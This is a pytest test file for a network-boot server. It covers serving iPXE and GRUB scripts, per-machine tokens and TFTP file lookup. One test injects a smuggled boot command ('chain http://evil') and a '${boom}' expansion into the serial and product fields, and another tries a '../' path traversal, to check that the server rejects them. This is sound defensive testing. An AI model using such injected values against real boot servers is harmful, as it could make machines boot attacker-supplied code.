"""The boot side: scripts out of the chain, boot programs out of memory, files out of the artifacts."""

from __future__ import annotations

import asyncio
import os
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from netbootd.artifacts.tree import Tree
from netbootd.boot.facts import Facts
from netbootd.boot.model import Machine
from netbootd.boot.plan import Document, Image, KernelPlan
from netbootd.boot.site import Site
from netbootd.chain.scripts import Loader, entry, script
from netbootd.fleet.lifecycle import Stage
from netbootd.fleet.record import Record
from netbootd.observe.events import Event, HostileValue, ScriptFailed, ScriptServed
from netbootd.payloads import PAYLOADS, Order
from netbootd.payloads.eve.bundle import Bundle, Era, IsoFile
from netbootd.serve.boot import BootSide
from netbootd.serve.directory import Directory
from netbootd.serve.http.services import ScriptReply, ScriptRequest, recorded
from netbootd.serve.tftp_source import Content, OpenFile, Refused
from netbootd.wire.mac import Mac
from netbootd.wire.segments import Segments
from netbootd.wire.tftp import normalise
from tests.support.worlds import CARD, OTHER_CARD, SERVER, args, eve, linux, machine, profile, settled, world

CLIENT = "192.0.2.77"
SETTLED = settled(linux(args=args(sn="{{ machine.serial | default('none') }}")))


class Side:
    """A boot side with what it needs, and what came of it."""

    def __init__(self, root: Path, site: Callable[[str], Site] = Site) -> None:
        self.events: list[Event] = []
        self.handed: list[tuple[Any, ...]] = []
        self.directory = Directory(lambda _mac: "")
        self.boot = BootSide(
            emit=self.events.append,
            directory=self.directory,
            site=site,
            world=SETTLED,
            firmware={"undionly.kpxe": b"bios", "arm64-efi/snponly.efi": b"arm"},
            tree=Tree(root),
            handed=lambda *what: self.handed.append(what),
        )

    def ask(
        self,
        mac: Mac | None = None,
        query: tuple[tuple[str, str], ...] = (),
        *,
        local: str = SERVER,
        loader: Loader = Loader.IPXE,
    ) -> ScriptReply:
        return self.boot.script(ScriptRequest(mac, query, CLIENT, (local, 8080), loader))

    async def read(self, name: str) -> bytes:
        """What a TFTP client would get for this name."""
        found = self.boot.resolve(name, CLIENT, SERVER)
        source = found if isinstance(found, Content | OpenFile) else await found
        if isinstance(source, Content):
            return source.data
        try:
            return os.pread(source.fd, source.size, source.offset)
        finally:
            os.close(source.fd)


@pytest.fixture
def side(tmp_path: Path) -> Side:
    (tmp_path / "rescue").mkdir()
    (tmp_path / "rescue" / "vmlinuz").write_bytes(b"kernel")
    return Side(tmp_path)


def test_the_entry_script_is_the_chain_s_for_the_address_that_was_asked(side: Side) -> None:
    for local in (SERVER, "198.51.100.1"):
        assert side.ask(local=local) == ScriptReply(entry(SETTLED, Site(local)).text.encode())
    assert side.events[0] == ScriptServed(ip=CLIENT, script="ipxe.cfg", payload="entry")


def test_urls_lead_back_by_the_way_a_proxy_tells(side: Side) -> None:
    told = ScriptRequest(CARD, (), CLIENT, (SERVER, 8080), base_url="https://boot.example.net")
    assert b"https://boot.example.net/artifacts/rescue/vmlinuz" in side.boot.script(told).body
    assert b"https://boot.example.net/machines/" in side.boot.script(replace(told, mac=None)).body


def test_a_public_url_of_the_settings_goes_before_what_a_proxy_tells(tmp_path: Path) -> None:
    boot = Side(tmp_path, site=lambda local: Site(local, public_url="http://own.example")).boot
    told = ScriptRequest(None, (), CLIENT, (SERVER, 8080), base_url="https://boot.example.net")
    assert b"http://own.example/machines/" in boot.script(told).body
    assert b"boot.example.net" not in boot.script(told).body


def test_a_machine_s_script_is_the_chain_s(side: Side) -> None:
    reply = side.ask(CARD, (("serial", "S1"), ("platform", "efi")))
    rendered = script(Facts(mac=CARD, serial="S1", platform="efi"), SETTLED, Site(SERVER))
    assert reply.body == rendered.text.encode()
    assert b"sn=S1" in reply.body
    assert side.events == [
        ScriptServed(
            mac=str(CARD),
            machine="node-1",
            ip=CLIENT,
            script="machines/52-54-00-12-34-56/ipxe.cfg",
            profile="rescue",
            payload="linux",
            files=("artifacts/rescue/vmlinuz", "artifacts/rescue/a.img", "artifacts/rescue/b.img"),
        )
    ]


def test_grub_gets_the_same_decision(side: Side) -> None:
    reply = side.ask(CARD, loader=Loader.GRUB)
    assert b"#!ipxe" not in reply.body
    assert b"rescue/vmlinuz" in reply.body


def test_what_a_machine_said_once_holds_for_its_next_request(side: Side) -> None:
    """GRUB, and an iPXE with an older script, report nothing of the machine."""
    side.ask(CARD, (("serial", "S1"),))
    assert b"sn=S1" in side.ask(CARD).body
    assert side.directory.mac_of(CLIENT) == CARD


def test_the_mac_of_the_path_counts_whatever_the_query_says(side: Side) -> None:
    side.ask(CARD, (("mac", "02:00:00:00:00:99"),))
    assert side.directory.known(Mac.parse("02:00:00:00:00:99")) == Facts(mac=Mac.parse("02:00:00:00:00:99"))


def test_a_hostile_value_is_dropped_and_told_and_the_machine_boots(side: Side) -> None:
    reply = side.ask(CARD, (("serial", "x\nchain http://evil"), ("product", "${boom}")))
    assert b"evil" not in reply.body
    refused = [event for event in side.events if isinstance(event, HostileValue)]
    assert {(event.field, event.mac) for event in refused} == {("serial", str(CARD)), ("product", str(CARD))}
    assert all(event.reason.isprintable() for event in refused)


def test_a_script_that_cannot_be_written_is_shown_on_the_machine_and_told(side: Side) -> None:
    broken = settled(linux(args=args(x="{{ machine.serial }}")))
    side.boot.swap(broken, {}, Tree(Path("/nowhere")))
    reply = side.ask(CARD)
    assert reply.body.startswith(b"#!ipxe")
    (event,) = side.events
    assert isinstance(event, ScriptFailed)
    assert (event.mac, event.machine) == (str(CARD), "node-1")
    assert "argument x" in event.reason


def test_a_choice_of_the_menu_is_taken_from_the_query(side: Side) -> None:
    side.boot.swap(world(linux(), unknown="menu"), {}, Tree(Path("/nowhere")))
    stranger = Mac.parse("02:00:00:00:00:07")
    assert b"menu" in side.ask(stranger).body
    assert b"rescue/vmlinuz" in side.ask(stranger, (("profile", "rescue"),)).body


def test_who_asks_only_for_the_head_of_a_script_has_been_handed_nothing(side: Side) -> None:
    whole = side.ask(CARD)
    side.handed.clear()
    side.events.clear()
    head = side.boot.script(ScriptRequest(CARD, (), CLIENT, (SERVER, 8080), head=True))
    assert len(head.body) == len(whole.body)
    assert (head.recorded, side.handed, side.events) == (None, [], [])


def test_who_follows_a_boot_is_told_what_was_handed_out(side: Side) -> None:
    side.ask(CARD)
    ((mac, ip, rendered, base),) = side.handed
    assert (mac, ip, rendered.payload, base) == (CARD, CLIENT, "linux", f"http://{SERVER}:8080")


def test_what_was_handed_out_is_told_after_it_counts(side: Side, monkeypatch: pytest.MonkeyPatch) -> None:
    """One that arms by itself is armed by its script: a script older than that would not be the one it installs by."""
    counted: list[bool] = []
    monkeypatch.setattr(side.boot, "emit", lambda event: counted.append(bool(side.handed)))
    side.ask(CARD)
    assert counted == [True]


class TestMadeForOne:
    """Documents of a plan, which the machine fetches with the token in its script."""

    @pytest.fixture
    def side(self, side: Side, monkeypatch: pytest.MonkeyPatch) -> Side:
        made = replace(PAYLOADS["linux"], plan=with_a_document)
        monkeypatch.setattr("netbootd.chain.ordering.PAYLOADS", {**PAYLOADS, "linux": made})
        return side

    async def test_open_to_the_token_in_the_script(self, side: Side) -> None:
        token = found_in(side.ask(CARD))

        granted = await side.boot.node.document(token, "config.img", CLIENT)
        assert granted is not None
        assert (granted.mac, granted.document.content.joined()) == (CARD, b"for 52:54:00:12:34:56")
        assert len(token) == 32

    async def test_each_script_has_its_own(self, side: Side) -> None:
        tokens = {found_in(side.ask(CARD)) for _ in range(3)}

        assert len(tokens) == 3
        assert all([await side.boot.node.document(token, "config.img", CLIENT) for token in tokens])

    def test_no_event_shows_it(self, side: Side) -> None:
        token = found_in(side.ask(CARD))

        assert token not in repr(side.events)

    @pytest.mark.parametrize("token", ["TOKEN", "", "config.img"])
    async def test_closed_to_anybody_else(self, side: Side, token: str) -> None:
        side.ask(CARD)

        assert await side.boot.node.document(token, "config.img", CLIENT) is None

    async def test_not_there_by_tftp(self, side: Side) -> None:
        token = found_in(side.ask(CARD))

        with pytest.raises(Refused):
            await side.read(f"node/{token}/config.img")


def with_a_document(_settings: object, order: Order) -> KernelPlan:
    made = Document("config.img", Segments.of(f"for {order.facts.mac}".encode()))
    image = Image(order.document_url(made.name), made.name)
    return KernelPlan(Image(order.site.artifact_url("kernel"), "kernel"), (image,), (), documents=(made,))


def found_in(reply: ScriptReply) -> str:
    found = re.search(rb"/node/([^/]+)/config.img", reply.body)
    assert found
    return found[1].decode()


# TFTP


@pytest.mark.parametrize("name", ["ipxe.cfg", "autoexec.ipxe", "AUTOEXEC.IPXE", "some/folder/autoexec.ipxe"])
async def test_by_tftp_a_script_is_given_under_any_folder(side: Side, name: str) -> None:
    """iPXE asks for autoexec.ipxe beside the program it was loaded as."""
    assert await side.read(name) == entry(SETTLED, Site(SERVER)).text.encode()
    assert side.events == [ScriptServed(ip=CLIENT, script="ipxe.cfg", payload="entry", via="tftp")]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("undionly.kpxe", b"bios"),
        ("UNDIONLY.KPXE", b"bios"),
        ("boot/undionly.kpxe", b"bios"),
        ("arm64-efi/snponly.efi", b"arm"),
        ("rescue/vmlinuz", b"kernel"),
        ("artifacts/rescue/vmlinuz", b"kernel"),
        ("Rescue/VMLINUZ", b"kernel"),
    ],
)
async def test_by_tftp_boot_programs_and_artifacts_are_found_as_firmware_spells_them(
    side: Side, name: str, data: bytes
) -> None:
    assert await side.read(name) == data


@pytest.mark.parametrize("name", ["edge/iso/boot/kernel", "artifacts/edge/iso/boot/kernel", "edge\\iso\\boot\\kernel"])
async def test_by_tftp_a_file_of_a_bundle_s_iso_is_found(side: Side, tmp_path: Path, name: str) -> None:
    (tmp_path / "eve").mkdir()
    (tmp_path / "eve" / "installer.iso").write_bytes(b"....kern....")
    bundle = Bundle("edge", "", "eve", Era.B2, iso=(IsoFile("boot/kernel", 4, 4),), iso_size=12)
    side.boot.swap(SETTLED, {}, Tree(tmp_path, {"edge": bundle}))
    assert await side.read(name) == b"kern"


@pytest.mark.parametrize(
    "name",
    [
        "http://192.0.2.1:8080/ipxe.cfg.cfg",
        "/http://192.0.2.1:8080/ipxe.cfg.cfg",
        "ipxe.efi.cfg",
        "/boot.ipxe.cfg",
        "undionly.kpxe.cfg",
        "SNPONLY.EFI.CFG",
        "eserver/ipxe.efi.cfg",
        "boot.ipxe",
    ],
)
async def test_eves_own_ipxe_finds_the_script_behind_whatever_boot_file_it_was_given(side: Side, name: str) -> None:
    """Its embedded script asks for tftp://${next-server}/${filename}.cfg, also where the file is a URL."""
    assert await side.read(normalise(name)) == entry(SETTLED, Site(SERVER)).text.encode()


def test_the_script_has_the_one_line_that_tools_look_for(side: Side) -> None:
    """eden's: grep "set url", take the words before away, and put ipxe.efi.cfg behind."""
    (line,) = [line for line in side.ask().body.decode().splitlines() if "set url" in line]
    assert line == f"set url http://{SERVER}:8080/"


class TestAReleaseAtTheRoot:
    @pytest.fixture
    def side(self, side: Side, tmp_path: Path) -> Side:
        for directory in ("sha256-aaaa", "sha256-bbbb"):
            (tmp_path / directory / "EFI" / "BOOT").mkdir(parents=True)
            (tmp_path / directory / "installer.iso").write_bytes(directory.encode())
            (tmp_path / directory / "EFI" / "BOOT" / "BOOTX64.EFI").write_bytes(b"GRUB")
            (tmp_path / directory / "EFI" / "BOOT" / "grub.cfg").write_bytes(b"a menu for anybody")
        first, second = (profile(name, "eve", {"bundle": name}) for name in ("a", "b"))
        bundles = {name: Bundle(name, "", f"sha256-{name * 4}", Era.B2) for name in "ab"}
        two = world(first, second, machines=[machine("a"), machine("b", "node-2", OTHER_CARD)])
        side.boot.swap(replace(two, bundles=bundles), {}, Tree(tmp_path, bundles))
        return side

    async def test_is_the_one_of_the_card_that_was_last_seen_at_the_address(self, side: Side) -> None:
        side.directory.met(CLIENT, CARD)
        assert await side.read("installer.iso") == b"sha256-aaaa"
        side.directory.met(CLIENT, OTHER_CARD)
        assert await side.read("INSTALLER.ISO") == b"sha256-bbbb"
        assert await side.read("eserver/installer.iso") == b"sha256-bbbb"
        assert await side.read("EFI/BOOT/BOOTX64.EFI") == b"GRUB"

    @pytest.mark.parametrize("name", ["EFI/BOOT/x86_64-efi/command.lst", "boot/.uuid", "config.img", "EFI/BOOT"])
    async def test_has_nothing_that_the_release_has_not(self, side: Side, name: str) -> None:
        side.directory.met(CLIENT, CARD)
        with pytest.raises(Refused):
            await side.read(name)

    async def test_is_nobodys_who_is_not_known(self, side: Side) -> None:
        with pytest.raises(Refused):
            await side.read("installer.iso")

    async def test_goes_behind_what_lies_there_under_that_name(self, side: Side, tmp_path: Path) -> None:
        side.directory.met(CLIENT, CARD)
        (tmp_path / "installer.iso").write_bytes(b"put there by hand")
        assert await side.read("installer.iso") == b"put there by hand"


@pytest.mark.parametrize("name", ["none", "rescue", "artifacts", "../rescue/vmlinuz", "rescue/none", ".hidden"])
async def test_by_tftp_nothing_else_is_there(side: Side, name: str) -> None:
    with pytest.raises(Refused) as refused:
        await side.read(name)
    assert (refused.value.tftp_code, refused.value.reason) == (1, "File not found")


async def test_a_swap_holds_for_the_next_request_and_leaves_open_files_alone(side: Side, tmp_path: Path) -> None:
    future = side.boot.resolve("rescue/vmlinuz", CLIENT, SERVER)
    assert isinstance(future, asyncio.Future)
    opened = await future
    assert isinstance(opened, OpenFile)
    (tmp_path / "other").mkdir()
    side.boot.swap(SETTLED, {"new.kpxe": b"new"}, Tree(tmp_path / "other"))
    assert await side.read("new.kpxe") == b"new"
    with pytest.raises(Refused):
        await side.read("rescue/vmlinuz")
    assert os.pread(opened.fd, 10, 0) == b"kernel"
    os.close(opened.fd)


async def test_who_admits_files_is_asked_and_without_anybody_all_are_let_through(side: Side, tmp_path: Path) -> None:
    assert await side.boot.admit(CLIENT, "rescue/vmlinuz")
    asked: list[tuple[str, str, Mac | None]] = []

    async def refuse(ip: str, file: str, mac: Mac | None) -> bool:
        asked.append((ip, file, mac))
        return False

    strict = BootSide(
        emit=side.events.append,
        directory=side.directory,
        site=Site,
        world=SETTLED,
        firmware={},
        tree=Tree(tmp_path),
        admit=refuse,
    )
    assert not await strict.admit(CLIENT, "rescue/vmlinuz")
    assert asked == [(CLIENT, "rescue/vmlinuz", None)]


class TestSoftSerials:
    """A machine that waits for the next of a range has it assigned while it asks."""

    def side(self, root: Path, numbered: bool) -> Side:
        side, record = Side(root), Record("1", (CARD,))
        own = world(eve(soft_serial="NODE-[01-99]"), machines=(machine("edge"),), stage=Stage.ARMED)
        records = [record]

        async def number(facts: Facts, _machine: Machine | None) -> bool:
            assert facts.mac == CARD
            if numbered:
                records[0] = replace(record, soft_serial="NODE-01", soft_serial_by="profile edge")
            return numbered

        side.boot.world = replace(own, recorded=lambda _facts: records[0])
        side.boot.number = number
        return side

    async def test_its_script_is_made_anew_with_the_number(self, tmp_path: Path) -> None:
        side = self.side(tmp_path, numbered=True)
        reply = await recorded(side.boot.script, ScriptRequest(CARD, (), CLIENT, (SERVER, 8080)))
        assert reply is not None
        assert b"eve_soft_serial=NODE-01" in reply.body
        assert [type(event) for event in side.events] == [ScriptServed]

    async def test_where_there_is_none_for_it_its_screen_says_so(self, tmp_path: Path) -> None:
        side = self.side(tmp_path, numbered=False)
        reply = await recorded(side.boot.script, ScriptRequest(CARD, (), CLIENT, (SERVER, 8080)))
        assert reply is not None
        assert b"no soft serial" in reply.body
        assert [type(event) for event in side.events] == [ScriptFailed]
        assert side.handed == []
